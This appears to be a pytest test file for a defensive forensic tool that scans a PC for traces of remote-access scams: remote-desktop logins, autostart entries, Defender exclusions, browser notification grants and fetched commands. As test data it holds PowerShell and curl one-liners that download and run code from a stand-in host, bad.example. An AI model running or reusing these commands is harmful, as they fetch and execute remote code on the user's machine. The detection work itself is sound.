"""What the eight probes find, on a PC of which all is known, and what they leave alone."""

from __future__ import annotations

import json
import os
from datetime import timedelta
from pathlib import Path
from types import SimpleNamespace

import pytest

from app.evidence.probes import PROBES, look_back
from app.evidence.remote_logs import TERMINAL
from app.evidence.report import run, told
from app.evidence.traces import Evidence, Looked
from app.texts import Library
from tests.evidence.conftest import NOW, event, put, since_1601

OLD = NOW - timedelta(days=30)
USER, PC = "HKEY_CURRENT_USER", "HKEY_LOCAL_MACHINE"
VERSION, DEFENDER = r"Software\Microsoft\Windows\CurrentVersion", rf"{PC}\SOFTWARE\Microsoft\Windows Defender"
FETCH, CURL = "powershell -w h iex (irm https://bad.example/x)", "curl https://bad.example/x | sh"
RULE = {"setting": 1, "last_modified": str(since_1601(NOW))}
PAGES = {"https://bad.example:443,*": RULE, "https://no.example:443,*": RULE | {"setting": 2}}
PREFERENCES = json.dumps({"profile": {"content_settings": {"exceptions": {"notifications": PAGES}}}})


def found(evidence: Evidence) -> dict[str, list[tuple[str, str]]]:
    return {
        looked.probe: [(trace.what, trace.other) for trace in looked.traces] for looked in evidence if looked.traces
    }


def test_what_windows_notes_of_the_last_two_days(windows: SimpleNamespace, home: Path) -> None:
    windows.keys |= {
        rf"{PC}\{VERSION}\Uninstall\A": ({"DisplayName": "AnyDesk"}, NOW),
        rf"{PC}\{VERSION}\Uninstall\B": ({"DisplayName": "Old"}, OLD),
        rf"{USER}\{VERSION}\Explorer\RunMRU": ({"a": f"{FETCH}\\1", "b": "cmd\\1", "MRUList": "ab"}, NOW),
        rf"{USER}\{VERSION}\Run": ({"OneDrive": "x", "Evil": "y"}, NOW),
        rf"{PC}\{VERSION}\Run": ({"SecurityHealth": "z"}, OLD),
        rf"{PC}\SYSTEM\CurrentControlSet\Control\Terminal Server": ({"fDenyTSConnections": 0}, OLD),
        rf"{DEFENDER}\Exclusions\Paths": None,
    }
    log, changed = "Microsoft-Windows-Windows Defender", r"HKLM\SOFTWARE\…\Exclusions\Paths\C:\Users = 0x0"
    client = event("chromoting", 1, NOW, "thief@example.com/chromoting_ftl_1")
    windows.events["Application"] = [event("MsiInstaller", 1034, NOW, "Office", "16.0"), client]
    windows.events[f"{log}/Operational"] = [event(log, 5007, NOW, "Microsoft Defender", changed)]
    began = [event(TERMINAL, 21, NOW, "PC\\hanako", "2", address) for address in ("ローカル", "192.0.2.9")]
    windows.events[f"{TERMINAL}/Operational"] = began
    put(home, "APPDATA/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt", f"dir\n{FETCH}\n")
    put(home, "LOCALAPPDATA/Google/Chrome/User Data/Default/Preferences", PREFERENCES)
    evidence = look_back()
    assert found(evidence) == {
        "connections": [("chrome-remote-desktop", "thief@example.com"), ("windows", "192.0.2.9")],
        "programs": [("AnyDesk", ""), ("Office", "")],
        "typed": [(FETCH, "")],
        "fetched": [(FETCH, "")],
        "starts": [("OneDrive, Evil", "")],
        "remote_desktop": [("", "")],
        "protection": [(r"C:\Users = 0x0", "")],
        "notices": [("https://bad.example:443", "")],
    }
    assert [looked.probe for looked in evidence if looked.closed] == ["protection"]
    windows.events["Application"] = None
    assert look_back()[0].closed == ("Application: chromoting",), "that it could not look is a result"


def test_what_linux_notes_and_where_it_cannot_look(home: Path) -> None:
    put(home, ".config/autostart/evil.desktop", "")
    os.utime(put(home, ".config/autostart/old.desktop", ""), (OLD.timestamp(), OLD.timestamp()))
    put(home, ".bash_history", f"ls\n{CURL}\n")
    put(home, ".config/chromium/Default/Preferences", PREFERENCES[:-9])
    evidence = look_back()
    assert found(evidence)["starts"] == [("evil.desktop", "")]
    assert found(evidence)["fetched"] == [(CURL, "")]
    assert [looked.probe for looked in evidence if looked.closed] == ["notices"], "a torn file was not looked at"
    assert [looked.probe for looked in evidence if not looked.where] == ["typed", "remote_desktop", "protection"]
    assert not any(looked.where or looked.traces for looked in look_back(within=-1.0)), "when time is up"
    assert len(evidence) == len(PROBES) == 8


def test_passwords_and_cookies_stay_shut_and_nothing_is_written(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("Default/Login Data", "Default/Cookies", "Default/Preferences", "Local State"):
        put(home, f".config/google-chrome/{name}", PREFERENCES)
    opened, reads = set[tuple[str, str]](), Path.open
    monkeypatch.setattr(Path, "open", lambda path, mode: opened.add((path.name, mode)) or reads(path, mode))
    look_back()
    assert {(name, mode) for name, mode in opened if name != "dpkg.log"} == {("Preferences", "rb")}


def test_what_a_stranger_wrote_acts_on_no_console(
    home: Path, library: Library, capsys: pytest.CaptureFixture[str]
) -> None:
    put(home, ".bash_history", f"{CURL}\u202e\x1b[2J\n")
    for as_json in (True, False):
        assert run(library.texts("ja"), timedelta(hours=48), as_json=as_json) == 0
        text = capsys.readouterr().out
        assert CURL in text
        assert not {"\x1b", "\u202e"} & {*text}
        assert not as_json or [looked["probe"] for looked in json.loads(text)] == [probe.__name__ for probe in PROBES]


def test_nothing_found_is_no_all_clear(library: Library) -> None:
    texts = library.texts("ja")
    assert told((), texts) == (), "nobody has looked"
    nothing, closed = told((Looked("typed", where=("a",)), Looked("starts")), texts)
    assert nothing == "見つかりませんでした。消されたのかもしれません。"
    assert told((Looked("starts"),), texts) == (closed,), "nor is it said where nobody could look"
